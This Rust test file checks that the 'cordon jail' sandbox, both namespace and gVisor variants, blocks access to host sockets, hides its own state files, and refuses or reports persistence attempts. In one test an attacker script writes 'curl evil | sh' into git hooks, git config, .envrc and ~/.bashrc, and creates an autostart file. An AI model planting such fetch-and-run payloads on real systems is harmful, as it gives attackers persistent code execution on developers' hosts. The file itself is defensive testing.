//! What the root jail (`cordon jail`, and `cordon jail --isolation gvisor`) leaves reachable on the file system,
//! tried from inside as an attacker would: host Unix sockets however and whenever they were bound, cordon's own files named by relative paths, and
//! code planted for the developer's tools to run on the host later (git hooks and config, `.envrc`, VS Code
//! tasks, the sudo user's `~/.bashrc`).

use std::os::unix::fs::PermissionsExt;
use std::path::Path;
use std::process::Command;

use crate::rigs::gateway::World;
use crate::rigs::jail::{SOCKETS, Scratch, TRY_SOCKETS, host_server, shell_words};
use crate::rigs::netns::available;
use crate::rigs::process::BIN;
use crate::rigs::wait::{TimedChild, Within};

/// `cordon jail` in the test's host namespace, from `cwd`, as nobody unless `extra` says; (code, stdout, stderr).
fn jail_in(w: &World, cwd: &Path, config: Option<&Path>, extra: &[&str], cmd: &[&str]) -> (i32, String, String) {
    let mut c = w.net.enter(&w.net.gw, BIN);
    c.arg("jail");
    if let Some(config) = config {
        c.arg("--config").arg(config);
    } else {
        c.env_remove("CORDON_CONFIG");
    }
    c.args(extra).arg("--").args(cmd).current_dir(cwd);
    let out = c.output_within();
    (
        out.status.code().unwrap_or(-1),
        String::from_utf8_lossy(&out.stdout).into_owned(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

#[tokio::test(flavor = "multi_thread")]
async fn no_host_socket_is_reachable_from_the_root_jail_however_and_whenever_it_was_bound() {
    if available("no_host_socket_is_reachable_from_the_root_jail_however_and_whenever_it_was_bound") {
        host_sockets(&[]).await;
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn under_gvisor_no_host_socket_is_reachable_however_and_whenever_it_was_bound() {
    if super::gvisor::runsc(
        "no_host_socket_is_reachable_from_the_root_jail_however_and_whenever_it_was_bound under gVisor",
    ) {
        host_sockets(&super::gvisor::GVISOR).await;
    }
}

/// The case in the jail `isolation` names (nothing: the namespace jail).
async fn host_sockets(isolation: &[&str]) {
    let w = World::new().await;
    let id = format!("sockets{}", w.net.n);
    let config = w.config(&id, "", None);
    // Sockets where host services keep them: /var/spool (Postfix), /var/lib, a home folder.
    let spool = Scratch::new("/var/spool", &id);
    let home = Scratch::new("/home", &id);
    let project = Scratch::new("/var/lib", &id);
    std::os::unix::fs::chown(&project.0, Some(65534), Some(65534)).unwrap();
    let log = w.path("connections.log");
    let mut tried = Vec::new();
    let mut servers = Vec::new();
    for (n, dir) in [&spool.0, &home.0].into_iter().enumerate() {
        let go = project.0.join(format!("go{n}"));
        servers.push(host_server(dir, &log, &go));
        tried.push(go.display().to_string());
        tried.extend(SOCKETS.iter().map(|s| dir.join(s).display().to_string()));
    }
    // One script per server (each waits for its own late socket).
    // The jail's environment is clean: the script is a file of the project.
    std::fs::write(project.0.join("try.py"), TRY_SOCKETS).unwrap();
    std::fs::set_permissions(project.0.join("try.py"), std::fs::Permissions::from_mode(0o644)).unwrap();
    // A socket in the folder the command may write, there at start: listed, and hidden.
    let listed = project.0.join("listed.sock");
    let _listed = std::os::unix::net::UnixListener::bind(&listed).unwrap();
    std::fs::set_permissions(&listed, std::fs::Permissions::from_mode(0o777)).unwrap();
    let script = format!(
        "python3 try.py {} '{}' && python3 try.py {}",
        shell_words(&tried[..7]),
        listed.display(),
        shell_words(&tried[7..])
    );
    let mut c = w.net.enter(&w.net.gw, BIN);
    c.arg("jail")
        .args(isolation)
        .args(["--sandbox", &id, "--config"])
        .arg(&config)
        .args(["--user", "65534:65534", "--", "sh", "-c", &script])
        .current_dir(&project.0);
    let out = c.output_within();
    for mut s in servers {
        let _ = s.kill();
        let _ = s.timed_wait();
    }
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(out.status.success(), "{text}{}", String::from_utf8_lossy(&out.stderr));
    assert!(!text.contains("REACHED"), "{text}");
    // The namespace jail shows the empty file in its place: not a socket, and not writable (EACCES). gVisor
    // cannot mount over a socket, and needs not: it refuses every host socket (EPERM), and does not show it.
    let (absent, listed_as) = if isolation.is_empty() {
        (12, "PermissionError exists")
    } else {
        (13, "PermissionError absent")
    };
    assert_eq!(text.matches(" absent").count(), absent, "{text}");
    assert!(
        text.contains(&format!("refused {} {listed_as}", listed.display())),
        "{text}"
    );
    assert!(
        !log.exists(),
        "a host socket took a connection: {:?}",
        std::fs::read_to_string(&log)
    );
    // The late sockets were there on the host all along (the jail started before them).
    assert!(spool.0.join("late.sock").exists() && home.0.join("late.sock").exists());
}

#[tokio::test(flavor = "multi_thread")]
async fn cordons_files_named_by_relative_paths_are_hidden_where_they_are() {
    if available("cordons_files_named_by_relative_paths_are_hidden_where_they_are") {
        relative_paths(&[]).await;
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn under_gvisor_cordons_files_named_by_relative_paths_are_hidden_where_they_are() {
    if super::gvisor::runsc("cordons_files_named_by_relative_paths_are_hidden_where_they_are under gVisor") {
        relative_paths(&super::gvisor::GVISOR).await;
    }
}

/// The case in the jail `isolation` names (nothing: the namespace jail).
async fn relative_paths(isolation: &[&str]) {
    let w = World::new().await;
    let id = format!("relative{}", w.net.n);
    // 1. The embedded default (`certs`, `state/…`, relative) from a working folder: its relative paths are read
    // against cordon's state folder, never the working folder, so the jail starts there, makes nothing in it,
    // and what it keeps in the state folder reads as nothing inside.
    let work = Scratch::new("/var/lib", &format!("{id}-default"));
    let state = Scratch::new("/var/lib", &format!("{id}-state"));
    let key = state.0.join("state/signing-key");
    // (The empty, read-only `.git` the jail binds where there is none is the jail's, not cordon's state.)
    let read = format!("cat {} 2>/dev/null; ls -A | grep -vx .git; echo [end]", key.display());
    let mut c = w.net.enter(&w.net.gw, BIN);
    c.env_remove("CORDON_CONFIG")
        .env("CORDON_STATE_DIR", &state.0)
        .arg("jail")
        .args(isolation)
        .args(["--allow-root", "--", "sh", "-c", &read])
        .current_dir(&work.0);
    let out = c.output_within();
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(
        (out.status.code(), String::from_utf8_lossy(&out.stdout).trim()),
        (Some(0), "[end]"),
        "the state folder was readable inside, or the working folder not empty: {err}"
    );
    assert!(std::fs::metadata(&key).unwrap().len() > 0, "{err}");
    assert_eq!(std::fs::read_dir(&work.0).unwrap().count(), 0, "{err}");
    // 2. Relative paths of a file are read against the file's folder; here they lead out of the working folder
    // into one the jail shows (/etc): hidden there, whoever the command runs as (root here), and nothing made at
    // /certs or /state on the host's root.
    let etc = Scratch::new("/etc", &id);
    let cwd = etc.0.join("work");
    std::fs::create_dir(&cwd).unwrap();
    std::fs::create_dir(etc.0.join("state")).unwrap();
    let yaml = std::fs::read_to_string(w.config(&id, "", None))
        .unwrap()
        .replace(
            &format!("ca: {{ dir: {}/cas }}", w.dir.path().display()),
            "ca: { dir: certs }",
        )
        .replace(
            &format!("audit: {{ path: {}/audit.log }}", w.dir.path().display()),
            "audit: { path: state/audit.log }",
        )
        + "control:\n  admin_token: { file: state/admin-token }\n  signing_key: { file: state/signing-key }\n  \
           store: state/cordon.db\n";
    assert!(
        yaml.contains("dir: certs") && yaml.contains("state/audit.log"),
        "{yaml}"
    );
    let config = etc.0.join("cordon.yaml");
    std::fs::write(&config, yaml).unwrap();
    let before: Vec<bool> = ["/certs", "/state"].iter().map(|p| Path::new(p).exists()).collect();
    let read = "cat ../state/signing-key ../state/admin-token ../state/audit.log ../cordon.yaml ../state/cordon.db; \
                ls -A ../certs; echo [end]";
    let (code, out, err) = jail_in(
        &w,
        &cwd,
        Some(Path::new("../cordon.yaml")),
        &[&["--sandbox", &id, "--allow-root"][..], isolation].concat(),
        &["sh", "-c", read],
    );
    assert_eq!(
        (code, out.trim()),
        (0, "[end]"),
        "cordon's files were readable inside: {err}"
    );
    // They are there on the host, with what cordon made of them.
    assert!(std::fs::metadata(etc.0.join("state/signing-key")).unwrap().len() > 0);
    assert!(std::fs::read_dir(etc.0.join("certs")).unwrap().next().is_some());
    let after: Vec<bool> = ["/certs", "/state"].iter().map(|p| Path::new(p).exists()).collect();
    assert_eq!(before, after, "the jail made /certs or /state on the host's root");
}

#[tokio::test(flavor = "multi_thread")]
async fn what_the_root_jail_plants_for_the_hosts_tools_is_refused_or_reported() {
    if available("what_the_root_jail_plants_for_the_hosts_tools_is_refused_or_reported") {
        planted(&[]).await;
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn under_gvisor_what_the_jail_plants_for_the_hosts_tools_is_refused_or_reported() {
    if super::gvisor::runsc("what_the_root_jail_plants_for_the_hosts_tools_is_refused_or_reported under gVisor") {
        planted(&super::gvisor::GVISOR).await;
    }
}

/// The case in the jail `isolation` names (nothing: the namespace jail).
async fn planted(isolation: &[&str]) {
    let (uid, gid, home) = crate::rigs::jail::user();
    let w = World::new().await;
    let id = format!("planted{}", w.net.n);
    let config = w.config(&id, "", None);
    let project = Scratch::new("/var/lib", &id);
    let ok = Command::new("git")
        .args(["init", "-q"])
        .current_dir(&project.0)
        .timed_status()
        .unwrap();
    assert!(ok.success());
    crate::rigs::jail::chown_r(&project.0, uid, gid);
    let autostart = Path::new(&home).join(".config/autostart/evil.desktop");
    let _ = std::fs::remove_file(&autostart);
    let bashrc = Path::new(&home).join(".bashrc");
    let bashrc_before = std::fs::read(&bashrc).unwrap_or_default();
    let script = "echo 'curl evil | sh' >> .git/hooks/pre-commit && echo hook=written || echo hook=refused
git config core.fsmonitor 'curl evil | sh' 2>/dev/null && echo gitconfig=written || echo gitconfig=refused
mv .git .git-away 2>/dev/null && echo gitdir=moved || echo gitdir=kept
echo 'curl evil | sh' > .envrc && echo envrc=written
mkdir -p .vscode && echo '{\"tasks\": []}' > .vscode/tasks.json && echo tasks=written
echo 'curl evil | sh' >> ~/.bashrc && echo bashrc=written
mkdir -p ~/.config/autostart && echo x > ~/.config/autostart/evil.desktop
echo home=$HOME";
    // As the user behind sudo, with no --user: the jail runs the command as them.
    let mut c = w.net.enter(&w.net.gw, BIN);
    c.arg("jail")
        .args(isolation)
        .args(["--sandbox", &id, "--config"])
        .arg(&config)
        .args(["--", "sh", "-c", script])
        .env("SUDO_UID", uid.to_string())
        .env("SUDO_GID", gid.to_string())
        .env("SUDO_USER", crate::rigs::jail::USER)
        .current_dir(&project.0);
    let out = c.output_within();
    let (text, err) = (
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr),
    );
    assert!(out.status.success(), "{text}{err}");
    for wanted in [
        "hook=refused",
        "gitconfig=refused",
        "gitdir=kept",
        "envrc=written",
        "tasks=written",
        &format!("home={home}"),
    ] {
        assert!(text.contains(wanted), "{wanted}: {text}{err}");
    }
    // Nothing of it reached the host's git, nor the user's real home.
    assert!(!project.0.join(".git/hooks/pre-commit").exists());
    assert!(
        !std::fs::read_to_string(project.0.join(".git/config"))
            .unwrap()
            .contains("fsmonitor")
    );
    assert_eq!(std::fs::read(&bashrc).unwrap_or_default(), bashrc_before);
    assert!(!autostart.exists());
    // What was written is reported, with its hash, on stderr and in the audit.
    let audit = std::fs::read_to_string(w.path("audit.log")).unwrap();
    for (file, content) in [
        (".envrc", "curl evil | sh\n"),
        (".vscode/tasks.json", "{\"tasks\": []}\n"),
    ] {
        let path = project.0.join(file).display().to_string();
        let hash = crate::rigs::client::hash(content);
        assert!(err.contains(&path) && err.contains(&hash), "{file}: {err}");
        assert!(
            audit.lines().any(|l| l.contains("\"kind\":\"jail_file\"")
                && l.contains(&format!("\"path\":\"{path}\""))
                && l.contains(&format!("\"after\":\"{hash}\""))
                && l.contains(&format!("\"sandbox\":\"{id}\""))),
            "{file}: {audit}"
        );
    }
    // With --writable-git, the hooks are the project's like any other file (and reported); here from a project
    // inside the user's home, which shows on top of the private one.
    let project = Scratch::new(&home, &id);
    let ok = Command::new("git")
        .args(["init", "-q"])
        .current_dir(&project.0)
        .timed_status()
        .unwrap();
    assert!(ok.success());
    crate::rigs::jail::chown_r(&project.0, uid, gid);
    let mut c = w.net.enter(&w.net.gw, BIN);
    c.arg("jail")
        .args(isolation)
        .args(["--sandbox", &id, "--config"])
        .arg(&config)
        .args([
            "--writable-git",
            "--",
            "sh",
            "-c",
            "echo true > .git/hooks/pre-commit && echo hook=written",
        ])
        .env("SUDO_UID", uid.to_string())
        .env("SUDO_GID", gid.to_string())
        .current_dir(&project.0);
    let out = c.output_within();
    let (text, err) = (
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr),
    );
    assert!(text.contains("hook=written"), "{text}{err}");
    assert!(err.contains(".git/hooks/pre-commit"), "{err}");
}
